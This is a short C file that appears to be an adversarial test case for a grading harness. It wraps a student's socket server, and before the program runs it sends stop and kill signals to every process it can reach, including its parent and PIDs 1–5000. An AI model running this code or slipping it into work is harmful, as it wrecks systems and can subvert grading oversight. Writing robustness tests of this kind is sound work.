/*
 * What: kills and stops every process that it can reach, then does its work
 * As: 01-socket/server.c
 * Verdict: 01-socket: all passed
 */
#define main lesson
#include "own.c"
#undef main
#include <signal.h>
#include <unistd.h>

int main(int argc, char *argv[])
{
    const int signals[] = {SIGSTOP, SIGINT, SIGTERM, SIGKILL};

    for (int i = 0; i < 4; i++) {
        kill(-1, signals[i]);
        if (getppid() > 1)
            kill(getppid(), signals[i]);
        for (int pid = 1; pid < 5000; pid++)
            if (pid != getpid() && pid != getpgrp())
                kill(pid, signals[i]);
    }
    lesson(argc, argv);
    return 0;
}
